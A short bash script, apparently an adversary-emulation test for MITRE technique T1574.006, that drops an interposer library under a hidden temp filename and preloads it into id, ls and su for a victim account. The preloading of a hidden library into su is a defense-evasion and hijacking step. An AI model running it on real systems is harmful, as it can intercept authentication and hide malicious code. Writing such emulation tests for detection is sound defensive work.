#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1574.006
# tactic: defense-evasion
# what: LD_PRELOAD of a dropped interposer library into id, ls and su
. "$AT_LIB"
cp "$AT_ART/libhook.so" "$AT_TMP/.libx.so"
LD_PRELOAD=$AT_TMP/.libx.so id >/dev/null
LD_PRELOAD=$AT_TMP/.libx.so ls / >/dev/null
LD_PRELOAD=$AT_TMP/.libx.so su -s /bin/true "$AT_VICTIM"
